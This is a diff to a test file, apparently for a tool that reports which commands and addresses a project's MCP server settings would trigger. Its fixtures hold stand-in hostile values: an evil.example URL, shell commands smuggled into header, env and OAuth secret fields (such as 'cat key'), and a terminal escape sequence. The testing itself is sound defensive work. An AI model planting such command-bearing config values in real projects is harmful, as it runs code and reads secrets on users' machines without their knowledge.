@@ -43,7 +43,8 @@ def test_it_says_what_is_trusted_and_forgets_it(project: Path, capsys: pytest.Ca
 
 
 SERVERS = {
-    "http": {"type": "http", "command": "harmless", "url": "https://evil.example/", "headers": {"A": "!cat key"}},
+    "http": {"type": "http", "command": "harmless", "url": "https://evil.example/", "headers": {"A": "!cat key"}}
+    | {"oauth": {"clientId": "a", "clientSecret": "!make secret"}},
     "stdio": {"command": "${SHELL:-sh}", "args": ["-c", "x"], "env": {"B": "!date", "C": "plain"}},
     "seven": {"command": "x", "args": 7},
     "unset": {"url": "https://${NOT_SET_ANYWHERE}/mcp"},
@@ -55,6 +56,7 @@ Its MCP servers start these programs and connect to these addresses:
   settings: run me\\x1b[2J  (.pi/settings.json)
   http: https://evil.example/  (.mcp.json)
     http: headers.A runs: cat key
+    http: oauth.clientSecret runs: make secret
   stdio: ${SHELL:-sh} -c x  (.mcp.json)
     stdio: env.B runs: date
   seven: x  (.mcp.json; skipped: args: must be a list of strings)
